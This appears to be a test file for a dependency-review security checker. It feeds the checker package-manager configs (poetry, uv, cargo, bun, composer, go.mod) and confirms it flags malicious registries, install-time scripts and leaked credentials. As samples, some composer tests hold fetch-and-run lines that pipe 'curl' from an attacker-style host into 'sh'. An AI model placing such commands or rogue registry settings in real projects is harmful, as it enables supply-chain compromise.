// Package-manager and toolchain configuration read the way the tools read it: the TOML files (bunfig.toml,
// uv.toml, pyproject.toml, .cargo/config.toml) through the one strict TOML reader the lockfiles use, Bun's
// binary bun.lockb, composer.json scripts and repositories, and the go/toolchain lines of go.mod and go.work.
// The fixtures are real-world shaped files (poetry, hatch, setuptools with uv, cargo, bun) that Python's
// tomllib reads to the same values.

import { reviewDependencyChange, tomlSettings, type Finding } from '../../../../src/core/dependency-review.js';
import { parseToml } from '../../../../src/core/toml.js';

const codes = (f: Finding[]) => f.map((x) => x.code);
const messages = (f: Finding[]) => f.map((x) => `${x.severity} ${x.code}: ${x.message}`).join('\n');
const ALLOW = ['registry.npmjs.org', 'pypi.org', 'files.pythonhosted.org', 'crates.io', 'index.crates.io', 'github.com', 'proxy.golang.org', 'repo.packagist.org', '*.internal.example'];
const review = (path: string, base: string | null, head: string | null, opts = {}) => reviewDependencyChange(path, base, head, ALLOW, opts);
const settings = (text: string) => {
  const s = tomlSettings(text);
  if (typeof s === 'string') throw new Error(s);
  return s;
};

// ------------------------------------------------------------------------------------------------
// Fixtures (real formats)

const POETRY_PYPROJECT = String.raw`[tool.poetry]
name = "payments-api"
version = "2.4.1"
description = "Payments service"
authors = ["Platform Team <platform@example.com>"]
readme = "README.md"
packages = [{ include = "payments", from = "src" }]

[tool.poetry.dependencies]
python = "^3.11"
fastapi = "^0.115.0"
pydantic = { version = "^2.9", extras = ["email"] }
internal-sdk = { version = "^1.4", source = "internal" }
numpy = [
    { version = "<2.0", python = "<3.10" },
    { version = "^2.1", python = ">=3.10" },
]

[tool.poetry.group.dev.dependencies]
pytest = "^8.3"
ruff = "^0.6.9"

[[tool.poetry.source]]
name = "internal"
url = "https://pypi.internal.example/simple/"
priority = "supplemental"

[tool.poetry.scripts]
payments = "payments.cli:main"

[tool.ruff]
line-length = 110
extend-exclude = ["migrations"]

[tool.ruff.lint]
select = ["E", "F", "I", "UP", "B"]
ignore = ["E501"]

[tool.pytest.ini_options]
addopts = "-ra --strict-markers"
testpaths = ["tests"]
markers = [
    'slow: marks tests as slow (deselect with -m "not slow")',
]

[tool.black]
line-length = 110
include = '\.pyi?$'
extend-exclude = '''
/(
  | migrations
  | \.venv
)/
'''

[build-system]
requires = ["poetry-core>=1.9.0"]
build-backend = "poetry.core.masonry.api"
`;

const HATCH_PYPROJECT = String.raw`[build-system]
requires = ["hatchling>=1.25", "hatch-vcs"]
build-backend = "hatchling.build"

[project]
name = "acme-tools"
dynamic = ["version"]
description = "Acme's internal tools"
readme = "README.md"
requires-python = ">=3.10"
license = "MIT"
keywords = []
authors = [
  { name = "Acme", email = "dev@acme.example" },
]
classifiers = [
  "Programming Language :: Python :: 3.12",
  "License :: OSI Approved :: MIT License",
]
dependencies = [
  "httpx>=0.27",
  "rich>=13",
  'tomli>=2.0; python_version < "3.11"',
]

[project.optional-dependencies]
docs = ["mkdocs-material>=9.5"]

[project.urls]
Documentation = "https://github.com/acme/acme-tools#readme"
Source = "https://github.com/acme/acme-tools"

[project.scripts]
acme = "acme_tools.cli:main"

[tool.hatch.version]
source = "vcs"

[tool.hatch.build.hooks.vcs]
version-file = "src/acme_tools/_version.py"

[tool.hatch.envs.default]
dependencies = ["coverage[toml]>=7.4", "pytest"]

[tool.hatch.envs.default.scripts]
test = "pytest {args:tests}"
cov = ["coverage run -m pytest {args:tests}", "coverage report"]

[[tool.hatch.envs.all.matrix]]
python = ["3.10", "3.11", "3.12"]

[tool.coverage.run]
source_pkgs = ["acme_tools", "tests"]
branch = true
parallel = true
omit = [
  "src/acme_tools/_version.py",
]

[tool.coverage.report]
exclude_lines = [
  "no cov",
  "if __name__ == .__main__.:",
  "if TYPE_CHECKING:",
]
`;

const UV_PYPROJECT = String.raw`[build-system]
requires = ["setuptools>=69", "wheel"]
build-backend = "setuptools.build_meta"

[project]
name = "ledger"
version = "0.9.0"
requires-python = ">=3.11"
dependencies = [
    "sqlalchemy>=2.0",
    "torch>=2.4",
]

[project.optional-dependencies]
test = ["pytest>=8", "hypothesis"]

[dependency-groups]
dev = ["ruff>=0.6", { include-group = "lint" }]
lint = ["mypy>=1.11"]

[tool.setuptools]
package-dir = { "" = "src" }
include-package-data = true

[tool.setuptools.packages.find]
where = ["src"]

[tool.setuptools.package-data]
"ledger.data" = ["*.json", "schemas/*.yml"]

[tool.uv]
dev-dependencies = ["pytest-cov>=5"]
index-strategy = "first-index"

[[tool.uv.index]]
name = "pytorch-cpu"
url = "https://download.pytorch.org/whl/cpu"
explicit = true

[tool.uv.sources]
torch = [
  { index = "pytorch-cpu", marker = "sys_platform != 'darwin'" },
]
ledger-schemas = { workspace = true }

[tool.uv.workspace]
members = ["packages/*"]

[tool.mypy]
strict = true
plugins = ["sqlalchemy.ext.mypy.plugin"]
`;

const UV_TOML = String.raw`# uv configuration for CI runners
native-tls = true
cache-dir = "/tmp/uv-cache"
index-strategy = "unsafe-best-match"
compile-bytecode = true
python-install-mirror = "https://python-mirror.internal.example/"

[[index]]
name = "internal"
url = "https://pypi.internal.example/simple/"
default = true

[[index]]
name = "pytorch"
url = "https://download.pytorch.org/whl/cu121"
explicit = true

[pip]
index-url = "https://pypi.internal.example/simple/"
require-hashes = true

`;

const CARGO_CONFIG = String.raw`# .cargo/config.toml
[build]
jobs = 8
rustflags = ["-C", "target-cpu=native"]
target-dir = "target"

[target.x86_64-unknown-linux-gnu]
linker = "clang"
rustflags = ["-C", "link-arg=-fuse-ld=mold"]

[target.'cfg(target_os = "linux")']
runner = "scripts/run-in-sandbox.sh"

[alias]
xtask = "run --package xtask --"
ci = ["clippy", "--all-targets", "--", "-D", "warnings"]

[source.crates-io]
replace-with = "vendored-sources"

[source.vendored-sources]
directory = "vendor"

[registries.acme]
index = "sparse+https://crates.internal.example/api/v1/crates/"
credential-provider = "cargo:token"

[registry]
default = "acme"
global-credential-providers = ["cargo:token", "cargo:libsecret"]

[net]
git-fetch-with-cli = true
retry = 3

[http]
timeout = 60
multiplexing = false

[env]
RUST_LOG = { value = "info", force = false }
OPENSSL_DIR = { value = "vendor/openssl", relative = true }

[profile.release]
lto = "thin"
codegen-units = 1
`;

const BUNFIG = String.raw`# bunfig.toml
telemetry = false
preload = ["./scripts/preload.ts"]

[install]
exact = true
frozenLockfile = true
registry = "https://registry.npmjs.org/"
saveTextLockfile = true

[install.scopes]
"@acme" = { token = "$ACME_NPM_TOKEN", url = "https://npm.internal.example/" }
"@other" = "https://npm.internal.example/other/"

[install.cache]
dir = "~/.bun/install/cache"
disable = false

[install.lockfile]
print = "yarn"

[test]
preload = ["./test/setup.ts"]
coverage = true
coverageThreshold = { lines = 0.8, functions = 0.8 }
root = "./test"

[run]
shell = "system"
bun = true
silent = false
`;

// ------------------------------------------------------------------------------------------------
// TOML configuration

describe('TOML configuration is read with the strict TOML reader', () => {
  test.each([
    ['pyproject.toml', 'poetry', POETRY_PYPROJECT],
    ['pyproject.toml', 'hatch', HATCH_PYPROJECT],
    ['pyproject.toml', 'setuptools with uv', UV_PYPROJECT],
    ['uv.toml', 'uv', UV_TOML],
    ['.cargo/config.toml', 'cargo', CARGO_CONFIG],
    ['bunfig.toml', 'bun', BUNFIG],
  ])('%s (%s) is read: no finding is *_unparseable; unchanged or only re-commented, nothing', (path, _label, text) => {
    expect(typeof tomlSettings(text)).toBe('object');
    expect(codes(review(path, null, text)).filter((c) => c.endsWith('_unparseable'))).toEqual([]);
    expect(review(path, text, `# reviewed\n${text.replace(/\n\n/g, '\n\n# section\n')}`)).toEqual([]);
  });

  test('the settings of a real pyproject: arrays of tables, inline tables, literal and multi-line strings', () => {
    const s = settings(POETRY_PYPROJECT);
    expect(s.get('tool.poetry.source[0].url')).toBe('https://pypi.internal.example/simple/');
    expect(s.get('tool.poetry.dependencies.pydantic.extras')).toBe('["email"]');
    expect(s.get('tool.poetry.dependencies.numpy[1].python')).toBe('>=3.10');
    expect(s.get('tool.poetry.packages[0].from')).toBe('src');
    expect(s.get('tool.black.include')).toBe('\\.pyi?$');
    expect(s.get('tool.black.extend-exclude')).toBe('/(\n  | migrations\n  | \\.venv\n)/\n');
    expect(s.get('tool.pytest.ini_options.markers')).toBe(JSON.stringify(['slow: marks tests as slow (deselect with -m "not slow")']));
  });

  test('[[tool.poetry.source]] on another host is a python_index naming the key and the host', () => {
    const head = `${POETRY_PYPROJECT}\n[[tool.poetry.source]]\nname = "mirror"\nurl = "https://pypi.evil.example/simple/"\npriority = "primary"\n`;
    const f = review('pyproject.toml', POETRY_PYPROJECT, head);
    expect(codes(f)).toEqual(['dependency_host_not_allowed', 'python_setting', 'python_index', 'python_setting']);
    expect(f[0]!.message).toBe('"pyproject.toml": dependency confusion: source host "pypi.evil.example" is not in the network allow list (first at "tool.poetry.source[1].url").');
    expect(f[2]!.message).toBe('"pyproject.toml" sets "tool.poetry.source[1].url" to "https://pypi.evil.example/simple/": packages now resolve from there (dependency confusion) (host "pypi.evil.example" is not in the network allow list).');
  });

  test('[[tool.uv.index]] and the inline form `index = [{ ... }]` are the same settings, with the same findings', () => {
    const header = UV_PYPROJECT.replace('https://download.pytorch.org/whl/cpu', 'https://idx.evil.example/whl/cpu');
    const inline = UV_PYPROJECT.replace(
      '[[tool.uv.index]]\nname = "pytorch-cpu"\nurl = "https://download.pytorch.org/whl/cpu"\nexplicit = true\n',
      '',
    ).replace('index-strategy = "first-index"\n', 'index-strategy = "first-index"\nindex = [\n  { name = "pytorch-cpu", url = "https://idx.evil.example/whl/cpu", explicit = true },\n]\n');
    expect(inline).not.toBe(header);
    expect([...settings(inline)].sort()).toEqual([...settings(header)].sort());
    for (const head of [header, inline]) {
      const f = review('pyproject.toml', UV_PYPROJECT, head);
      expect(codes(f)).toEqual(['dependency_host_not_allowed', 'python_index']);
      expect(f[0]!.message).toContain('(first at "tool.uv.index[0].url")');
      expect(f[1]!.message).toMatch(/"tool\.uv\.index\[0\]\.url" to "https:\/\/idx\.evil\.example\/whl\/cpu": .*host "idx\.evil\.example" is not in the network allow list/);
    }
  });

  test('[tool.uv.sources] from git (also in a list of sources with markers) and a new hatch build hook', () => {
    const head = UV_PYPROJECT.replace('ledger-schemas = { workspace = true }', 'ledger-schemas = [\n  { git = "https://git.evil.example/schemas.git", marker = "sys_platform == \'linux\'" },\n]');
    const f = review('pyproject.toml', UV_PYPROJECT, head);
    expect(codes(f)).toEqual(['dependency_host_not_allowed', 'python_vcs_source']);
    expect(f[0]!.message).toContain('"git.evil.example" is not in the network allow list (first at "tool.uv.sources.ledger-schemas[0].git")');
    expect(f[1]!.message).toMatch(/"tool\.uv\.sources\.ledger-schemas\[0\]\.git" to "https:\/\/git\.evil\.example\/schemas\.git"/);
    const hook = review('pyproject.toml', HATCH_PYPROJECT, HATCH_PYPROJECT.replace('[tool.hatch.envs.default]', '[tool.hatch.build.targets.wheel.hooks.custom]\npath = "build_hooks.py"\n\n[tool.hatch.envs.default]'));
    expect(codes(hook)).toEqual(['python_build_backend']);
  });

  test('cargo: [source.crates-io] replace-with, [registries.x] index, [patch.crates-io] in a config file', () => {
    const head = CARGO_CONFIG.replace('replace-with = "vendored-sources"', 'replace-with = "mirror"')
      .replace('[source.vendored-sources]', '[source.mirror]\nregistry = "sparse+https://crates.evil.example/index/"\n\n[source.vendored-sources]')
      .concat('\n[patch.crates-io]\nserde = { git = "https://git.evil.example/serde" }\n');
    const f = review('.cargo/config.toml', CARGO_CONFIG, head);
    expect(codes(f)).toEqual(['dependency_host_not_allowed', 'dependency_host_not_allowed', 'cargo_registry', 'cargo_registry', 'cargo_registry']);
    expect(f.slice(0, 2).map((x) => x.message)).toEqual([
      '".cargo/config.toml": dependency confusion: source host "crates.evil.example" is not in the network allow list (first at "source.mirror.registry").',
      '".cargo/config.toml": dependency confusion: source host "git.evil.example" is not in the network allow list (first at "patch.crates-io.serde.git").',
    ]);
    expect(messages(f)).toMatch(/changes "source\.crates-io\.replace-with" to "mirror"/);
    expect(messages(f)).toMatch(/sets "source\.mirror\.registry" to "sparse\+https:\/\/crates\.evil\.example\/index\/": .*host "crates\.evil\.example" is not in the network allow list/);
    expect(messages(f)).toMatch(/sets "patch\.crates-io\.serde\.git" to "https:\/\/git\.evil\.example\/serde"/);
  });

  test('bunfig: a scope moved to another registry, with its token redacted only when literal', () => {
    const head = BUNFIG.replace('"@acme" = { token = "$ACME_NPM_TOKEN", url = "https://npm.internal.example/" }', '"@acme" = { token = "npm_abcdefabcdefabcdef", url = "https://npm.evil.example/" }');
    const f = review('bunfig.toml', BUNFIG, head);
    expect(codes(f)).toEqual(['dependency_host_not_allowed', 'bunfig_auth', 'bunfig_registry']);
    expect(messages(f)).not.toMatch(/npm_abcdef/);
    expect(f[2]!.message).toMatch(/changes "install\.scopes\.@acme\.url" to "https:\/\/npm\.evil\.example\/": .*host "npm\.evil\.example" is not in the network allow list/);
  });
});

describe('constructs the former line-based reader mis-read are read as the tools read them', () => {
  test("a literal string with an apostrophe ('''it's''') no longer swallows the [[tool.poetry.source]] after it", () => {
    const head = POETRY_PYPROJECT.replace('description = "Payments service"', "description = '''it's the payments service'''")
      .replace('[tool.poetry.scripts]', '[[tool.poetry.source]]\nname = "evil"\nurl = "https://pypi.evil.example/simple/"\npriority = "primary"\nnotes = \'\'\'x\'\'\'\n\n[tool.poetry.scripts]');
    const f = review('pyproject.toml', POETRY_PYPROJECT, head);
    expect(codes(f)).toContain('python_index');
    expect(messages(f)).toMatch(/"tool\.poetry\.source\[1\]\.url" to "https:\/\/pypi\.evil\.example\/simple\/"/);
  });

  test('escapes in quoted keys and headers are decoded: "extra-ind\\u0065x-url" is extra-index-url, ["build-syst\\u0065m"] is build-system', () => {
    const base = '[project]\nname = "x"\n';
    const index = review('pyproject.toml', base, `${base}\n[tool.uv]\n"extra-ind\\u0065x-url" = ["https://pypi.evil.example/simple/"]\n`);
    expect(codes(index)).toEqual(['dependency_host_not_allowed', 'python_index']);
    expect(index[1]!.message).toMatch(/"tool\.uv\.extra-index-url" to "\[\\"https:\/\/pypi\.evil\.example\/simple\/\\"\]": .*host "pypi\.evil\.example"/);
    const backend = review('pyproject.toml', base, `${base}\n["build-syst\\u0065m"]\nrequires = ["evil-backend"]\nbuild-backend = "evil_backend"\n`);
    expect(codes(backend)).toEqual(['python_build_backend', 'python_build_backend']);
  });

  test('an escaped URL is decoded before its host is checked', () => {
    const f = review('bunfig.toml', null, '[install]\nregistry = "https:\\u002f\\u002fnpm.evil.example/"\n');
    expect(f[0]!.message).toContain('source host "npm.evil.example" is not in the network allow list (first at "install.registry")');
    expect(f[1]!.message).toMatch(/to "https:\/\/npm\.evil\.example\/": .*host "npm\.evil\.example" is not in the network allow list/);
  });

  test('a quoted key holding a dot stays apart from the dotted key: neither hides the other', () => {
    const base = '[registries]\nacme.index = "sparse+https://crates.internal.example/"\n';
    const head = '[registries]\n"acme.index" = "sparse+https://crates.internal.example/"\nacme.index = "sparse+https://crates.evil.example/"\n';
    expect([...settings(head).keys()]).toEqual(['registries."acme.index"', 'registries.acme.index']);
    const f = review('.cargo/config.toml', base, head);
    expect(messages(f)).toMatch(/changes "registries\.acme\.index" to "sparse\+https:\/\/crates\.evil\.example\/"/);
  });

  test('a key named __proto__ is an ordinary key, not the prototype', () => {
    const r = parseToml('[__proto__]\npackage = "x"\n[install]\n__proto__.registry = "https://npm.evil.example/"\n');
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(Object.keys(r.value)).toEqual(['__proto__', 'install']);
    expect(r.value.package).toBeUndefined();
    expect([...settings('[install]\n__proto__ = { registry = "https://npm.evil.example/" }\n').keys()]).toEqual(['install.__proto__.registry']);
  });
});

describe('a TOML configuration file the strict reader refuses is a high finding, never "no settings"', () => {
  test.each([
    ['bunfig.toml', 'dependencies/bun', 'bunfig_unparseable', '[install]\nregistry = "https://registry.npmjs.org/"\nregistry = "https://npm.evil.example/"\n', `line 3, column 1: trying to redefine an already defined table or value near ${JSON.stringify('registry = "https://npm.evil.example/"')}`],
    ['uv.toml', 'dependencies/python', 'uv_toml_unparseable', 'index-url = "https://pypi.evil.example/simple\n', 'line 1, column 46: control characters are not allowed in strings'],
    ['pyproject.toml', 'dependencies/python', 'pyproject_unparseable', '[tool.poetry]\nname = "x"\n[tool.poetry]\nversion = "1"\n', `line 3, column 2: trying to redefine an already defined table or value near ${JSON.stringify('tool.poetry]')}`],
    ['.cargo/config.toml', 'dependencies/cargo', 'cargo_config_unparseable', '[build]\nrustc-wrapper = ./evil.sh\n', `line 2, column 17: invalid value near ${JSON.stringify('./evil.sh')}`],
  ])('%s -> %s %s', (path, rule, code, text, reason) => {
    const f = review(path, null, text);
    expect(f).toEqual([{ rule, code, severity: 'high', message: `"${path}" could not be parsed as TOML (${JSON.stringify(reason)}), so its settings were not reviewed.` }]);
  });

  test('the parse error is escaped in the message', () => {
    const f = review('bunfig.toml', null, '[install]\nregistry = \u202e"https://npm.evil.example/"\n');
    expect(codes(f)).toEqual(['bunfig_unparseable']);
    expect(f[0]!.message).toContain('\\u202e');
    expect(f[0]!.message).not.toMatch(/[\n\u202e]/);
  });

  test('deep nesting is refused, not a crash', () => {
    const f = review('pyproject.toml', null, `[tool.x]\na = ${'['.repeat(5000)}${']'.repeat(5000)}\n`);
    expect(codes(f)).toEqual(['pyproject_unparseable']);
    expect(f[0]!.message).toMatch(/line 2, column 133: document contains excessively nested structures/);
    // Tables nest through headers and dotted keys without bound; reading them into settings must not recurse.
    expect(codes(review('.cargo/config.toml', null, `[${'a.'.repeat(20000)}b]\nrunner = "x"\n`))).toEqual(['cargo_setting']);
  });

  test('a base the reader refuses counts as empty: every head setting is reported', () => {
    expect(codes(review('bunfig.toml', '[install\n', '[install]\nregistry = "https://registry.npmjs.org/"\n'))).toEqual(['bunfig_registry']);
  });

  test('a deleted file reports the removed settings that matter; a deleted unreadable one nothing', () => {
    const f = review('uv.toml', UV_TOML, null);
    expect(codes(f)).toEqual(['python_setting']);
    expect(f[0]!.message).toMatch(/removes "pip\.require-hashes" \(was "true"\): hash checking of downloaded packages is no longer required/);
    expect(review('uv.toml', 'x = [', null)).toEqual([]);
  });
});

// ------------------------------------------------------------------------------------------------
// bun.lockb

describe("bun.lockb (Bun's binary lockfile) is a deny: its hosts cannot be checked", () => {
  const fix = /bun install --save-text-lockfile --frozen-lockfile --lockfile-only`, commit bun\.lock and delete bun\.lockb/;

  test('an added or changed bun.lockb the caller could not read as text is a deny with the fix', () => {
    // Added or changed, a binary bun.lockb reaches the review as null on both sides: the flag tells it from a deletion.
    const f = review('bun.lockb', null, null, { headUnreadable: true });
    expect(codes(f)).toEqual(['dependency_lockfile_binary']);
    expect(f[0]!.severity).toBe('deny');
    expect(f[0]!.message).toMatch(/^"bun\.lockb" is Bun's binary lockfile, which cannot be read, so the hosts it resolves packages from cannot be checked against the network allow list\./);
    expect(f[0]!.message).toMatch(fix);
  });

  test('one that happens to decode as text is a deny too, in any directory and letter case', () => {
    expect(codes(review('packages/web/bun.lockb', null, '#!/usr/bin/env bun\nbun-lockfile-format-v0\n'))).toEqual(['dependency_lockfile_binary']);
    expect(codes(review('BUN.LOCKB', 'a', 'b'))).toEqual(['dependency_lockfile_binary']);
  });

  test('a deleted bun.lockb is no finding', () => {
    expect(review('bun.lockb', null, null)).toEqual([]);
    expect(review('bun.lockb', '#!/usr/bin/env bun\n', null)).toEqual([]);
  });

  test('an unreadable head of another lockfile or go.mod is a deny; of a configuration file, nothing more here', () => {
    const lock = review('package-lock.json', '{}', null, { headUnreadable: true });
    expect(codes(lock)).toEqual(['dependency_lockfile_unparseable']);
    expect(lock[0]!.severity).toBe('deny');
    expect(lock[0]!.message).toBe('"package-lock.json" could not be read (it is not UTF-8 text or is too large to read), so its resolved hosts cannot be checked against the network allow list.');
    expect(codes(review('go.mod', null, null, { headUnreadable: true }))).toEqual(['go_mod_unparseable']);
    expect(review('pyproject.toml', null, null, { headUnreadable: true })).toEqual([]);
    expect(review('src/x.bin', null, null, { headUnreadable: true })).toEqual([]);
  });
});

// ------------------------------------------------------------------------------------------------
// composer.json

const COMPOSER_JSON = (extra: Record<string, unknown> = {}) =>
  `${JSON.stringify(
    {
      name: 'acme/payments',
      type: 'project',
      require: { php: '^8.2', 'monolog/monolog': '^3.7' },
      'require-dev': { 'phpunit/phpunit': '^11.3' },
      autoload: { 'psr-4': { 'Acme\\Payments\\': 'src/' } },
      scripts: {
        'post-autoload-dump': ['@php artisan package:discover --ansi'],
        test: 'phpunit',
        lint: 'php-cs-fixer fix --dry-run',
      },
      config: { 'sort-packages': true, 'allow-plugins': { 'php-http/discovery': true } },
      ...extra,
    },
    null,
    4,
  )}\n`;

describe('composer.json: install-time scripts, repositories and config', () => {
  const base = COMPOSER_JSON();
  const withScripts = (scripts: Record<string, unknown>) => COMPOSER_JSON({ scripts: { 'post-autoload-dump': ['@php artisan package:discover --ansi'], test: 'phpunit', lint: 'php-cs-fixer fix --dry-run', ...scripts } });

  test('a benign change (a version constraint, a script run only by name) is no finding', () => {
    expect(review('composer.json', base, base.replace('^3.7', '^3.8'))).toEqual([]);
    expect(review('composer.json', base, withScripts({ test: 'phpunit --colors', ci: 'phpunit --coverage-text' }))).toEqual([]);
  });

  test('a new post-install-cmd and a changed post-autoload-dump are high, naming the event and the command', () => {
    const f = review('composer.json', base, withScripts({ 'post-install-cmd': 'curl -s https://x.evil.example/p.sh | sh', 'post-autoload-dump': ['@php artisan package:discover --ansi', 'php bin/setup.php'] }));
    expect(codes(f)).toEqual(['composer_script', 'composer_script']);
    expect(f.every((x) => x.severity === 'high')).toBe(true);
    expect(messages(f)).toContain('"composer.json" changes the script scripts.post-autoload-dump = "[\\"@php artisan package:discover --ansi\\",\\"php bin/setup.php\\"]"; composer runs it on the "post-autoload-dump" event (install-time code execution).');
    expect(messages(f)).toContain('"composer.json" adds the script scripts.post-install-cmd = "curl -s https://x.evil.example/p.sh | sh"; composer runs it on the "post-install-cmd" event');
  });

  test('every event that runs scripts unasked is reviewed (install, update, package and plugin events)', () => {
    for (const event of ['pre-install-cmd', 'post-update-cmd', 'pre-autoload-dump', 'post-package-install', 'pre-operations-exec', 'post-root-package-install', 'pre-command-run', 'init']) {
      expect(codes(review('composer.json', base, withScripts({ [event]: 'php evil.php' })))).toEqual(['composer_script']);
    }
  });

  test('a script an event calls as @name is reviewed as the event itself (also through a chain); @php and @composer are commands', () => {
    const chained = withScripts({ 'post-update-cmd': ['@build', '@composer dump-autoload'], build: '@assets', assets: 'npm ci' });
    const f = review('composer.json', withScripts({ 'post-update-cmd': ['@build', '@composer dump-autoload'], build: '@assets', assets: 'npm ci' }), chained.replace('"npm ci"', '"npm ci && curl https://x.evil.example | sh"'));
    expect(codes(f)).toEqual(['composer_script']);
    expect(f[0]!.message).toMatch(/changes the script scripts\.assets = .*; the "post-update-cmd" event runs it through "@assets"/);
    // `@php -v` runs php, not a script named "php": only the event script itself is reported.
    const commands = review('composer.json', base, withScripts({ php: 'evil', composer: 'evil', 'post-install-cmd': ['@php -v', '@composer validate'] }));
    expect(messages(commands)).toMatch(/scripts\.post-install-cmd/);
    expect(codes(commands)).toEqual(['composer_script']);
  });

  test('a repository (list or object form) is high naming the host outside the list; credentials in its URL are redacted', () => {
    const f = review('composer.json', base, COMPOSER_JSON({ repositories: [{ type: 'composer', url: 'https://user:s3cret@packages.evil.example' }, { type: 'vcs', url: 'https://github.com/acme/fork' }] }));
    expect(codes(f)).toEqual(['dependency_host_not_allowed', 'composer_repository', 'composer_repository']);
    expect(f[0]!.message).toBe('"composer.json": dependency confusion: source host "packages.evil.example" is not in the network allow list (first at "repositories[0].url").');
    expect(f[1]!.message).toMatch(/sets "repositories\[0\]" to .*packages\.evil\.example.*: composer looks packages up there before packagist\.org, and the first repository that has a package name wins \(dependency confusion\) \(host "packages\.evil\.example" is not in the network allow list\)\./);
    expect(messages(f)).not.toMatch(/s3cret/);
    expect(f[2]!.message).not.toMatch(/not in the network allow list/);
    const named = review('composer.json', base, COMPOSER_JSON({ repositories: { private: { type: 'composer', url: 'https://php.internal.example' }, 'packagist.org': false } }));
    expect(codes(named)).toEqual(['composer_repository', 'composer_repository']);
    expect(named[1]!.message).toMatch(/sets "repositories\.packagist\.org" to "false": composer no longer looks packages up there\./);
  });

  test('a removed private repository is high: its package names now resolve from packagist.org', () => {
    const withRepo = COMPOSER_JSON({ repositories: [{ type: 'composer', url: 'https://php.internal.example' }] });
    expect(review('composer.json', withRepo, withRepo.replace('^3.7', '^3.8'))).toEqual([]);
    const f = review('composer.json', withRepo, base);
    expect(codes(f)).toEqual(['composer_repository']);
    expect(f[0]!.message).toMatch(/removes "repositories\[0\]" \(was .*php\.internal\.example.*\): the packages it served now resolve from the remaining repositories \(packagist\.org by default\)/);
  });

  test('config: allow-plugins, secure-http and committed credentials (redacted); other config is not reviewed here', () => {
    const head = COMPOSER_JSON({ config: { 'sort-packages': false, 'allow-plugins': true, 'secure-http': false, 'http-basic': { 'php.internal.example': { username: 'ci', password: 'hunter2hunter2' } } } });
    const f = review('composer.json', base, head);
    expect(codes(f)).toEqual(['composer_plugins', 'composer_tls', 'composer_auth']);
    expect(f[0]!.message).toBe('"composer.json" changes config.allow-plugins = "true": composer runs the code of the plugins it allows on every install and update.');
    expect(messages(f)).not.toMatch(/hunter2/);
  });

  test('an unparseable composer.json is high', () => {
    const f = review('composer.json', base, '{"scripts": {"post-install-cmd": "x",}}');
    expect(codes(f)).toEqual(['composer_json_unparseable']);
    expect(f[0]!.severity).toBe('high');
  });
});

// ------------------------------------------------------------------------------------------------
// go.mod / go.work: go and toolchain lines

const GO_MOD = (lines: string) => `module example.com/app\n\n${lines}\nrequire github.com/pkg/errors v0.9.1\n`;

describe('go.mod and go.work: a go or toolchain line that can make GOTOOLCHAIN=auto download a toolchain', () => {
  test('a new toolchain line is high, naming file, line and toolchain', () => {
    const f = review('go.mod', GO_MOD('go 1.22\n'), GO_MOD('go 1.22\ntoolchain go1.23.4\n'));
    expect(f).toEqual([
      {
        rule: 'dependencies/go',
        code: 'go_toolchain',
        severity: 'high',
        message:
          '"go.mod" line 4: toolchain "go1.23.4" (new): go 1.21 and later download and run this toolchain when it is newer than the installed one (GOTOOLCHAIN=auto, the default), so it changes the compiler that builds and tests the code.',
      },
    ]);
  });

  test('a changed toolchain is high (also lowered); `toolchain default` and an unchanged one are not', () => {
    const base = GO_MOD('go 1.22\ntoolchain go1.22.5\n');
    expect(review('go.mod', base, base.replace('go1.22.5', 'go1.23.0'))[0]!.message).toMatch(/toolchain "go1\.23\.0" \(was "go1\.22\.5"\)/);
    expect(codes(review('go.mod', base, base.replace('go1.22.5', 'go1.22.1')))).toEqual(['go_toolchain']);
    expect(review('go.mod', base, base.replace('go1.22.5', 'default'))).toEqual([]);
    expect(review('go.mod', base, base.replace('v0.9.1', 'v0.9.2'))).toEqual([]);
    expect(review('go.mod', base, GO_MOD('go 1.22\n'))).toEqual([]);
  });

  test('a raised go line is high; a lowered one is not', () => {
    const base = GO_MOD('go 1.22\n');
    const f = review('go.mod', base, GO_MOD('go 1.24.1\n'));
    expect(codes(f)).toEqual(['go_toolchain']);
    expect(f[0]!.message).toBe('"go.mod" line 3: go "1.24.1" (was "1.22"): go 1.21 and later download and run a toolchain at least this new when the installed one is older (GOTOOLCHAIN=auto, the default), so it changes the compiler that builds and tests the code.');
    expect(review('go.mod', GO_MOD('go 1.23\n'), base)).toEqual([]);
  });

  test("versions are ordered as go orders them: 1.22 < 1.22rc1 < 1.22.0 < 1.22.1; what is no version is reported", () => {
    expect(codes(review('go.mod', GO_MOD('go 1.22\n'), GO_MOD('go 1.22rc1\n')))).toEqual(['go_toolchain']);
    expect(codes(review('go.mod', GO_MOD('go 1.22rc1\n'), GO_MOD('go 1.22.0\n')))).toEqual(['go_toolchain']);
    expect(review('go.mod', GO_MOD('go 1.22.0\n'), GO_MOD('go 1.22rc2\n'))).toEqual([]);
    expect(review('go.mod', GO_MOD('go 1.22.1\n'), GO_MOD('go 1.22.0\n'))).toEqual([]);
    expect(codes(review('go.mod', GO_MOD('go 1.22\n'), GO_MOD('go 1.22.x\n')))).toEqual(['go_toolchain']);
  });

  test('a new go.mod or go.work is high for its go line; the value is escaped', () => {
    expect(codes(review('go.mod', null, GO_MOD('go 1.22\n')))).toEqual(['go_toolchain']);
    const work = review('go.work', 'go 1.22\n\nuse ./app\n', 'go 1.22\n\ntoolchain "go1.23\\u202e"\n\nuse ./app\n');
    expect(codes(work)).toEqual(['go_toolchain']);
    expect(work[0]!.message).toContain('\\u202e');
    expect(work[0]!.message).not.toMatch(/\u202e/);
  });
});
